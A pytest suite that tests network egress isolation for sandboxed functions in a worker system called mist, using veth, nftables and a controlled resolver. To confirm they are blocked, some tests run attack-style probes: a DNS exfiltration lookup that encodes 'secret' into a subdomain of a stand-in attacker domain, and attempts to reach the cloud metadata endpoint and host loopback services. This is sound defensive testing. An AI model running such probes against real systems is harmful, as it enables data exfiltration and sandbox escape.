"""Egress: a function reaches what its rules allow and nothing else, through a real veth,
real nftables rules and mist's own resolver (the remote end is a network namespace of its own)."""

from __future__ import annotations

import asyncio
import socket

import pytest

from mist.worker import Worker
from mist.worker.network import SandboxNetwork
from tests.worker.conftest import call, value, worker_config
from tests.worker.netfixtures import start_remote

pytestmark = pytest.mark.sandbox

PROBE = '''
import errno, json, socket

def attempt(fn):
    try:
        return fn()
    except OSError as exc:
        return f"{type(exc).__name__}:{errno.errorcode.get(exc.errno, exc.errno)}"

def fetch(host, port):
    with socket.create_connection((host, port), timeout=2) as s:
        return s.recv(100).decode()

def resolve(name):
    try:
        return sorted({ai[4][0] for ai in socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)})
    except socket.gaierror as exc:
        return f"gaierror:{exc.errno}"

def handler(event, context):
    kind, *args = event
    if kind == "fetch":
        return attempt(lambda: fetch(args[0], args[1]))
    if kind == "resolve":
        return resolve(args[0])
    if kind == "resolv.conf":
        return open("/etc/resolv.conf").read()
    if kind == "socket":
        return attempt(lambda: socket.socket(*args).close() or "allowed")
    raise ValueError(kind)
'''


@pytest.fixture
def remote():
    r = start_remote()
    yield r
    r.stop()




@pytest.fixture
async def net_worker(tmp_path, remote):
    names = {"allowed.example.test": [remote.ip], "other.example.test": [remote.ip]}
    queried: list[str] = []

    async def fake_upstream(name: str) -> list[str]:
        queried.append(name)
        if name not in names:
            raise socket.gaierror(socket.EAI_NONAME, "not known")
        return names[name]

    config = worker_config(tmp_path).validate()
    w = Worker(config, network=SandboxNetwork(config.network_layout, prewarm=1, resolve=fake_upstream))
    await w.start()
    w.upstream_queries = queried  # type: ignore[attr-defined]
    yield w
    await w.stop()


async def test_reaches_an_allowed_network_and_port_and_nothing_else(net_worker, function, remote):
    spec = function(PROBE, egress=(f"{remote.ip}/32:7001",))
    assert value(await call(net_worker, spec, ["fetch", remote.ip, 7001])).startswith("hello 198.18.")
    assert value(await call(net_worker, spec, ["fetch", remote.ip, 7002])) == "OSError:EHOSTUNREACH"
    assert value(await call(net_worker, spec, ["fetch", remote.host_ip, 7001])) == "OSError:EHOSTUNREACH"


async def test_host_loopback_services_and_mists_own_ports_are_unreachable_with_egress(net_worker, function, remote):
    spec = function(PROBE, egress=("0.0.0.0/0",))
    listener = socket.socket()
    listener.bind(("0.0.0.0", 0))
    listener.listen()
    port = listener.getsockname()[1]  # stands for mist's own API: the host, on every address
    try:
        gateway = net_worker._network.layout.gateway
        for host, p in (("127.0.0.1", 5432), ("127.0.0.1", 6379), (gateway, port), (gateway, 5432),
                        (remote.host_ip, port), (_host_address(), port), ("169.254.169.254", 80)):
            got = value(await call(net_worker, spec, ["fetch", host, p]))
            assert got in ("OSError:EHOSTUNREACH", "ConnectionRefusedError:ECONNREFUSED"), (host, p, got)
        assert value(await call(net_worker, spec, ["fetch", remote.ip, 7002])).startswith("hello")
    finally:
        listener.close()


async def test_allowed_host_names_resolve_through_mist_and_others_never_leave_the_host(net_worker, function, remote):
    spec = function(PROBE, egress=("allowed.example.test:7001",))
    assert value(await call(net_worker, spec, ["resolv.conf"])).startswith(
        f"nameserver {net_worker._network.layout.gateway}\n")
    assert value(await call(net_worker, spec, ["resolve", "allowed.example.test"])) == [remote.ip]
    assert value(await call(net_worker, spec, ["fetch", "allowed.example.test", 7001])).startswith("hello")
    assert value(await call(net_worker, spec, ["fetch", remote.ip, 7002])) == "OSError:EHOSTUNREACH"
    secret = "c2VjcmV0.exfil.attacker.test"
    assert value(await call(net_worker, spec, ["resolve", secret])) == f"gaierror:{socket.EAI_NONAME}"
    assert value(await call(net_worker, spec, ["resolve", "other.example.test"])) == f"gaierror:{socket.EAI_NONAME}"
    assert net_worker.upstream_queries == ["allowed.example.test"]  # nothing else was asked upstream


async def test_a_function_without_network_has_no_resolver_and_no_inet_sockets(net_worker, function, remote):
    spec = function(PROBE)
    assert value(await call(net_worker, spec, ["resolv.conf"])) == ""
    got = value(await call(net_worker, spec, ["resolve", "allowed.example.test"]))
    assert got == f"gaierror:{socket.EAI_NONAME}"
    assert value(await call(net_worker, spec, ["socket", socket.AF_INET, socket.SOCK_DGRAM])) == "PermissionError:EPERM"
    assert net_worker.upstream_queries == []


async def test_egress_sandboxes_get_only_inet_and_unix_sockets(net_worker, function, remote):
    spec = function(PROBE, egress=(f"{remote.ip}/32",))
    assert value(await call(net_worker, spec, ["socket", socket.AF_INET, socket.SOCK_STREAM])) == "allowed"
    assert value(await call(net_worker, spec, ["socket", socket.AF_NETLINK, socket.SOCK_RAW])) == "PermissionError:EPERM"
    assert value(await call(net_worker, spec, ["socket", socket.AF_PACKET, socket.SOCK_RAW])) == "PermissionError:EPERM"
    assert value(await call(net_worker, spec, ["socket", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW])) == "PermissionError:EPERM"
    assert value(await call(net_worker, spec, ["socket", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP])) \
        in ("PermissionError:EPERM", "PermissionError:EACCES")


async def test_two_sandboxes_with_egress_cannot_reach_each_other(net_worker, function, remote):
    serve = '''
import socket, time
def handler(event, context):
    if event == "serve":
        s = socket.socket(); s.bind(("0.0.0.0", 7100)); s.listen(); s.settimeout(3)
        try:
            s.accept()
            return "reached"
        except OSError:
            return "alone"
    return open("/proc/net/fib_trie").read()
'''
    listener = function(serve, name="listener", egress=("0.0.0.0/0",))
    prober = function(PROBE, name="prober", egress=("0.0.0.0/0",))
    served = asyncio.ensure_future(call(net_worker, listener, "serve"))
    await asyncio.sleep(0.5)
    sandboxes = [sb for sb in net_worker._all.values() if sb.net_slot is not None]
    addresses = [sb.net_slot.address for sb in sandboxes]
    for address in addresses:
        assert value(await call(net_worker, prober, ["fetch", address, 7100])) in (
            "OSError:EHOSTUNREACH", "ConnectionRefusedError:ECONNREFUSED")
    assert value(await served) == "alone"


async def test_a_slot_is_torn_down_with_its_sandbox_and_nothing_is_left_after_stop(tmp_path, function, remote):
    import os
    import subprocess

    config = worker_config(tmp_path, prewarm=0).validate()
    w = Worker(config)
    await w.start()
    layout = config.network_layout
    spec = function(PROBE, egress=(f"{remote.ip}/32",))
    try:
        assert value(await call(w, spec, ["fetch", remote.ip, 7001])).startswith("hello")
        assert any(n.startswith(layout.prefix) for n in os.listdir("/run/netns"))
    finally:
        await w.stop()
    assert not any(n.startswith(layout.prefix) for n in os.listdir("/run/netns"))
    assert not any(n.startswith(layout.prefix) for n in os.listdir("/sys/class/net"))
    tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
    assert layout.table not in tables


def _host_address() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("203.0.113.1", 9))
        return s.getsockname()[0]


